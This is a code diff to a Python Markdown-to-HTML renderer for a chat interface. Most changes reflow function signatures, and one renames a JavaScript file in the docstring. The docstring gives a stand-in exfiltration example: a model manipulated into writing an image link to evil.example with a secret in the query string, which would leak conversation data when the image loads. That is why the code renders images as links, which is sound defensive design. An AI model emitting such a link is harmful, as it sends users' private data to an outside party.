@@ -7,7 +7,7 @@ list of tags and attributes. The page's Content-Security-Policy is the fourth.
 Images are shown as links. A picture is fetched without a click, so a model that was talked into
 writing ``![](https://evil.example/?secret)`` would leak what it knows about the conversation.
 
-``static/chat.js`` has a smaller renderer for answers that are still being written. It builds the
+``static/markdown.js`` has a smaller renderer for answers that are still being written. It builds the
 same tree for the same text (``tests/web`` compares them), so nothing jumps when an answer ends.
 """
 
@@ -103,15 +103,11 @@ def _highlight(code: str, language: str) -> str:
     return str(highlight(code, lexer, _formatter))
 
 
-def _fence(
-    renderer: RendererHTML, tokens: Sequence[Token], index: int, options: OptionsDict, env: Any
-) -> str:
+def _fence(renderer: RendererHTML, tokens: Sequence[Token], index: int, options: OptionsDict, env: Any) -> str:
     return _code_block(tokens[index].content, tokens[index].info)
 
 
-def _image(
-    renderer: RendererHTML, tokens: Sequence[Token], index: int, options: OptionsDict, env: Any
-) -> str:
+def _image(renderer: RendererHTML, tokens: Sequence[Token], index: int, options: OptionsDict, env: Any) -> str:
     address = str(tokens[index].attrs.get("src", ""))
     label = renderer.renderInlineAsText(tokens[index].children, options, env) or address
     return f'<a href="{escape(address)}">{escape(label)}</a>'
@@ -127,9 +123,7 @@ def _cell(renderer: RendererHTML, tokens: Sequence[Token], index: int, options: 
 
 def trim_bare_link(address: str) -> str:
     """Without the punctuation that belongs to the sentence and not to the address."""
-    while address and (
-        address[-1] in ".,;:!?" or (address[-1] == ")" and address.count(")") > address.count("("))
-    ):
+    while address and (address[-1] in ".,;:!?" or (address[-1] == ")" and address.count(")") > address.count("("))):
         address = address[:-1]
     return address
 
